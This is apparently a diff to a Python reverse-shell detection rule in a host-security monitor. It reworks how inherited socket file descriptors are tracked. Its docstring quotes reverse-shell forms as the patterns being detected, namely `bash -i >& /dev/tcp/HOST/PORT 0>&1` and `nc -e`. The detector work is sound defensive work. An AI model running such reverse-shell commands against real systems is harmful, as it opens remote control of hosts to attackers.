@@ -11,7 +11,7 @@ import numpy as np
 from kernelpilot.security.procinfo import ProcTable
 from kernelpilot.security.profiles import LiveProfiles
 
-EV_EXEC, EV_EXIT, EV_SHADOW, EV_SERVER, EV_SETID, EV_SETID_FILE, EV_RENAME, EV_FORK, EV_CONNECT, EV_SOCKIO = range(1, 11)
+EV_EXEC, EV_EXIT, EV_SHADOW, EV_SERVER, EV_SETID, EV_SETID_FILE, EV_RENAME, EV_FORK, EV_CONNECT = range(1, 10)
 EVENT_DTYPE = np.dtype([("ts", "<u8"), ("cgroup", "<u8"), ("arg2", "<u8"), ("tid", "<u4"), ("tgid", "<u4"),
                         ("ppid", "<u4"), ("uid", "<u4"), ("kind", "<u4"), ("arg", "<u4"), ("comm", "S16"),
                         ("path", "S128"), ("path2", "S128"), ("args", "u1", 256)])  # struct sc_event
@@ -53,7 +53,8 @@ class Rules:
         self.procs, self.profiles = procs, profiles
         self.servers: dict[int, str] = {}           # tgid -> program of processes listening/accepting on inet
         self.renames: dict[int, deque] = {}         # tid -> (ts, writes) of its recent renames
-        # tgid -> (bits of its fds 0-2 holding an inet socket, its own or inherited; whether a shell above had them)
+        # tgid -> (which of its fds 0-2 held an inet socket at its exec (bits); whether a shell above it
+        # had its stdin on one): kept only where either is set
         self.sock_stdio: dict[int, tuple[int, bool]] = {}
         self.counts = {r: 0 for r in RULES}
         self.learn_from = None  # cgroup id -> bool: while the host learns, only these cgroups teach (None: all)
@@ -82,12 +83,13 @@ class Rules:
             p = self.procs.exec(pid, ts, int(ev["ppid"]), int(ev["uid"]), _s(ev["comm"]), _s(ev["path"]),
                                 _s(ev["path2"]), argv_of(ev))
             self.servers.pop(pid, None)  # a new program: it listens again if it is a server
+            self._stdio(pid, int(ev["arg2"]) & 7, self.sock_stdio.get(pid, (0, False))[1])
             return self._shell(ev, p) + self._hidden(ev, p) + self._socket_shell(ev, p)
         if kind == EV_FORK:  # the child runs its parent's program until it execs
             self.procs.fork(pid, int(ev["arg"]), ts)
-            if self.sock_stdio.get(pid, (0,))[0]:  # and has its parent's fds
-                bits, under = self.sock_stdio[pid]
-                self.sock_stdio[int(ev["arg"])] = (bits, under or os.path.basename(self.procs.get(pid, ts).exe) in SHELLS)
+            bits, under = self.sock_stdio.get(pid, (0, False))
+            self._stdio(int(ev["arg"]), bits, under or bool(bits & 1 and os.path.basename(self.procs.get(pid, ts).exe)
+                                                             in SHELLS))
             return []
         if kind == EV_EXIT:
             self.procs.exit(pid, ts)
@@ -119,9 +121,13 @@ class Rules:
             if self._fires("connect_burst", "connect_burst", exe, ts, cgroup=int(ev["cgroup"])):
                 return [self._hit("connect_burst", ev, {"port": int(ev["arg"]), "connects": CONN_BURST,
                                                          "seconds": round(int(ev["arg2"]) / 1e9, 3)})]
-        elif kind == EV_SOCKIO:
-            self.sock_stdio[pid] = (int(ev["arg"]), self.sock_stdio.get(pid, (0, False))[1])
         return []
+
+    def _stdio(self, pid: int, bits: int, under: bool) -> None:
+        if bits or under:
+            self.sock_stdio[pid] = (bits, under)
+        else:
+            self.sock_stdio.pop(pid, None)
 
     def _shell(self, ev, p) -> list[dict]:
         name = os.path.basename(_s(ev["path2"]) or p.exe or _s(ev["path"]))
@@ -140,11 +146,12 @@ class Rules:
         return []
 
     def _socket_shell(self, ev, p) -> list[dict]:
-        """A shell started with its stdin on an inet socket (commands from the network): by a
-        process that dup'ed one there, bash's `bash -i >& /dev/tcp/HOST/PORT 0>&1`, nc -e, a script's
-        dup2 then exec, or by its parent that had (a spawn): a reverse shell's shape. A shell that
-        redirects a builtin to a socket (`echo x >&3`, `read r <&3`) starts nothing with it; the shells
-        a reverse shell starts in turn (its .bashrc's) are that one shell's doing: no more alerts."""
+        """A shell started with its stdin on an inet socket (commands from the network), as the
+        kernel saw its fds at exec: bash's `bash -i >& /dev/tcp/HOST/PORT 0>&1`, nc -e, a script's
+        dup2 then exec, a child that inherited the socket from its parent (or one an accept put on a
+        free fd 0): a reverse shell's shape. A shell that redirects a builtin to a socket (`echo x >&3`,
+        `read r <&3`) starts nothing with it; the shells a reverse shell starts in turn (its .bashrc's)
+        are that one shell's doing: no more alerts."""
         bits, under = self.sock_stdio.get(p.pid, (0, False))
         if not bits & 1 or under or os.path.basename(p.exe) not in SHELLS:
             return []
